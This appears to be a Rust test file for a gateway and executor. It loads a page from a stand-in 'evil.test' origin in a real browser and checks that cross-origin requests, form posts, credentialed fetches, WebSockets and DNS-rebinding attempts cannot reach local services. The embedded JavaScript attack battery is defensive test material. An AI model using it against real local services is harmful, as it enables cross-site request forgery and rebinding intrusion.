//! A real web browser as the attacker: pages of another origin against a gateway and an executor on this machine.

use crate::support::{
    browser::{Browser, Site},
    gateway::gateway,
    serve,
};
use afield_testkit::{Origin, peer::PeerServer};
use serde_json::Value;
use tempfile::TempDir;

/// What a page can try on `T`, without and with a script. Each thing has a path of its own.
const ATTACKS: &str = r#"
const wait = ms => new Promise(done => setTimeout(done, ms));
const results = {};
const attempt = async (name, act) => {
  try { results[name] = await Promise.race([act(), wait(4000).then(() => "timeout")]); }
  catch { results[name] = "error"; }
};
const element = (tag, attributes) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done("loaded");
  made.onerror = () => done("error");
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.body.append(made);
});
const form = (method, url, name) => new Promise(done => {
  const frame = document.createElement("iframe");
  frame.name = name;
  const form = document.createElement("form");
  Object.assign(form, { method, action: url, target: name });
  document.body.append(frame, form);
  frame.onload = () => done("loaded");
  form.submit();
});
const events = url => new Promise(done => {
  const source = new EventSource(url);
  source.onopen = () => done("open");
  source.onerror = () => { source.close(); done("refused"); };
});
const socket = url => new Promise(done => {
  const socket = new WebSocket(url);
  socket.onopen = () => done("open");
  socket.onerror = () => done("refused");
});
const attack = T => Promise.all([
  attempt("img", () => element("img", { src: T + "/img" })),
  attempt("script", () => element("script", { src: T + "/script" })),
  attempt("style", () => element("link", { rel: "stylesheet", href: T + "/style" })),
  attempt("prefetch", () => element("link", { rel: "prefetch", href: T + "/prefetch" })),
  attempt("object", () => element("object", { data: T + "/object" })),
  attempt("embed", () => element("embed", { src: T + "/embed" })),
  attempt("video", () => element("video", { src: T + "/video" })),
  attempt("iframe", () => element("iframe", { src: T + "/iframe" })),
  attempt("form-get", () => form("GET", T + "/form-get", "g")),
  attempt("form-post", () => form("POST", T + "/form-post", "p")),
  attempt("open", async () => window.open(T + "/open") ? "opened" : "blocked"),
  attempt("beacon", async () => navigator.sendBeacon(T + "/beacon", "x")),
  attempt("no-cors", () => fetch(T + "/no-cors", { mode: "no-cors" }).then(got => got.type)),
  attempt("post", () => fetch(T + "/post", { mode: "no-cors", method: "POST", body: "x" }).then(got => got.type)),
  attempt("cors", () => fetch(T + "/cors").then(got => got.text())),
  attempt("put", () => fetch(T + "/put", { method: "PUT", body: "x" }).then(got => got.text())),
  attempt("json", () => fetch(T + "/json", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }).then(got => got.text())),
  attempt("credentials", () => fetch(T + "/credentials", { credentials: "include" }).then(got => got.text())),
  attempt("events", () => events(T + "/events")),
  attempt("socket", () => socket(T.replace("http", "ws") + "/socket")),
]);
"#;

/// A page that runs this script, and reports to `home` what came of it.
fn page(script: &str, home: &str) -> String {
    let report = format!(
        "await wait(500); await fetch(\"{home}/report\", {{ mode: \"no-cors\", method: \"POST\", body: JSON.stringify(results) }});"
    );
    format!("<!doctype html><body><script type=module>{ATTACKS}\n{script}\n{report}</script></body>")
}

/// What of the origin was asked for, by the last segment of each path.
fn reached(origin: &Origin) -> Vec<String> {
    let requests = origin.requests();
    let mut names: Vec<String> =
        requests.iter().filter_map(|request| Some(request.target().rsplit_once('/')?.1.to_owned())).collect();
    // For a page that was refused, the browser itself asks for the icon of its origin.
    names.retain(|name| name != "favicon.ico");
    names.sort();
    names.dedup();
    names
}

/// Proves in a real browser that a page of another origin reaches nothing behind a gateway, by whatever a page can do, by a
/// name that it makes lead here either; and that an origin which is allowed reaches it by what says whose it is, alone
/// (case 160).
#[tokio::test(flavor = "multi_thread")]
async fn gateway_keeps_foreign_pages_of_a_browser_out() {
    let Some(browser) = Browser::find() else { return };
    let home = TempDir::new().unwrap();
    let site = Site::start().await;
    let evil = site.url_as("evil.test");
    for is_allowed in [false, true] {
        let origin = Origin::start().await;
        let route = format!("docs={}", origin.url("/echo"));
        let mut arguments = vec!["--route", &route];
        if is_allowed {
            arguments.extend(["--allow-origin", &evil]);
        }
        let (_gateway, base, _) = gateway(home.path(), &arguments, 1).await;
        let rebound = base.replace("127.0.0.1", "rebind.test");
        let script = format!(
            "await attack(\"{base}/docs\");\n\
             await attempt(\"rebound\", () => fetch(\"{rebound}/docs/rebound\", {{ mode: \"no-cors\" }}).then(got => got.type));\n\
             await attempt(\"rebound-frame\", () => element(\"iframe\", {{ src: \"{rebound}/docs/rebound-frame\" }}));"
        );
        site.serve("/", page(&script, &evil));
        let running = browser.open(&format!("{evil}/"));
        let results: Value = serde_json::from_str(&site.report().await).unwrap();
        drop(running);
        let reached = reached(&origin);
        if is_allowed {
            for name in ["post", "beacon", "cors"] {
                assert!(reached.iter().any(|other| other == name), "{name}: {reached:?}: {results}");
            }
            for name in [
                "img",
                "script",
                "iframe",
                "form-get",
                "form-post",
                "open",
                "no-cors",
                "rebound",
                "rebound-frame",
            ] {
                assert!(!reached.iter().any(|other| other == name), "{name}: {reached:?}: {results}");
            }
        } else {
            assert!(reached.is_empty(), "{reached:?}: {results}");
            assert_eq!(results["socket"], "refused", "{results}");
        }
        assert_eq!(results["no-cors"], "opaque", "the page did run: {results}");
    }
}

/// Proves in a real browser that a page of another origin opens no connection to an executor (case 160).
#[tokio::test(flavor = "multi_thread")]
async fn executor_keeps_foreign_pages_of_a_browser_out() {
    let Some(browser) = Browser::find() else { return };
    let site = Site::start().await;
    let evil = site.url_as("evil.test");
    let (_executor, url) = serve(&[]).await;
    let open = PeerServer::start().await;
    let (rebound, control) = (url.replace("127.0.0.1", "rebind.test"), open.url());
    let http = url.replace("ws://", "http://");
    let script = format!(
        "await attack(\"{http}\");\n\
         await attempt(\"executor\", () => socket(\"{url}\"));\n\
         await attempt(\"rebound\", () => socket(\"{rebound}\"));\n\
         await attempt(\"control\", () => socket(\"{control}\"));"
    );
    site.serve("/", page(&script, &evil));
    let running = browser.open(&format!("{evil}/"));
    let peer = open.accept().await;
    let results: Value = serde_json::from_str(&site.report().await).unwrap();
    drop((running, peer));
    assert_eq!(results["executor"], "refused", "{results}");
    assert_eq!(results["rebound"], "refused", "{results}");
    assert_eq!(results["control"], "open", "WebSockets work there: {results}");
}

/// Proves in a real browser that a route's page is not opened where all routes are one origin, that it is where the route has
/// an origin of its own, and that it then reaches its own server and no other route (case 160).
#[tokio::test(flavor = "multi_thread")]
async fn gateway_keeps_pages_of_one_route_from_the_others() {
    let Some(browser) = Browser::find() else { return };
    let home = TempDir::new().unwrap();
    let site = Site::start().await;
    let origin = Origin::start().await;
    let routes = [
        format!("docs={}", site.url()),
        format!("shared={}", site.url()),
        format!("wiki={}", site.url()),
        format!("other={}", origin.url("/echo")),
        format!("apart={}", origin.url("/echo")),
    ];
    let mut arguments: Vec<&str> = routes.iter().flat_map(|route| ["--route", route]).collect();
    arguments.extend(["--route-host", "docs=docs.localhost", "--route-host", "apart=apart.localhost"]);
    arguments.extend(["--route-listen", "wiki=127.0.0.1:0"]);
    let (_gateway, base, lines) = gateway(home.path(), &arguments, 5).await;
    let at = |name: &str| {
        let line = lines.iter().find(|line| line.contains(name)).unwrap_or_else(|| panic!("{lines:?}"));
        line.split_whitespace().next().unwrap().to_owned()
    };
    let shown = browser.dom(&format!("{base}/shared/page")).await;
    assert!(shown.contains("policy_denied") && shown.contains("route_host"), "{shown}");
    let wiki = lines.iter().map(|line| line.split_whitespace().next().unwrap());
    let wiki =
        wiki.filter(|at| at.starts_with("http://127.0.0.1:")).find(|at| !at.starts_with(&base)).unwrap();
    for at in [&at("docs.localhost"), wiki] {
        let apart = base.replace("127.0.0.1", "apart.localhost");
        let script = format!(
            "await attempt(\"own\", () => fetch(\"/own\").then(got => got.text()));\n\
             await attack(\"{base}/other\"); await attack(\"{apart}\");"
        );
        site.serve("/page", page(&script, &site.url()));
        site.serve("/own", "own".to_owned());
        let running = browser.open(&format!("{at}/page"));
        let results: Value = serde_json::from_str(&site.report().await).unwrap();
        drop(running);
        assert_eq!(results["own"], "own", "{results}");
        assert!(reached(&origin).is_empty(), "{:?}: {results}", reached(&origin));
    }
}
